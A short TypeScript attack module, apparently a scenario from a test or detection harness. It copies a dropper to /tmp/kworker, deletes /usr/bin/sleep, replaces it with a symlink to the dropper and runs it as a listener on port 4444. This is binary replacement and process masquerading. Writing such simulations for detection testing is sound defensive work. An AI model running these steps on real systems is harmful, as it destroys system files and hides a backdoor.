import { readlinkSync } from "node:fs";
import type { Attack } from "../attack.ts";
import { until } from "../site.ts";

export const attack: Attack = {
  async act(site) {
    await site.copyIn(site.images.dropper, "/tmp/kworker");
    const script = "rm /usr/bin/sleep && ln -s /tmp/kworker /usr/bin/sleep && exec /usr/bin/sleep -l -p 4444";
    const pid = await site.exec(["/usr/bin/sh", "-c", script]);
    await until("the other program", () => readlinkSync(`/proc/${pid}/exe`) === "/tmp/kworker");
    return pid;
  },
};
